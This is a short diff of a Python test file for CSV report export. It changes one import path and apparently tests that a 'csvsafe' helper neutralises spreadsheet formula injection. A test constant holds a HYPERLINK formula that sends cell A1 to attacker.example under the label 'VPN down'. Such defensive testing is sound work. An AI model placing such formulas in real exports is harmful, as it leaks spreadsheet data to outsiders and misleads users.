@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from tierline_metrics.reports import to_csv
+from tierline_metrics.reports.api import to_csv
 from tierline_shared.csvsafe import safe_cell
 
 TITLE = '=HYPERLINK("https://attacker.example/?d="&A1,"VPN down")'
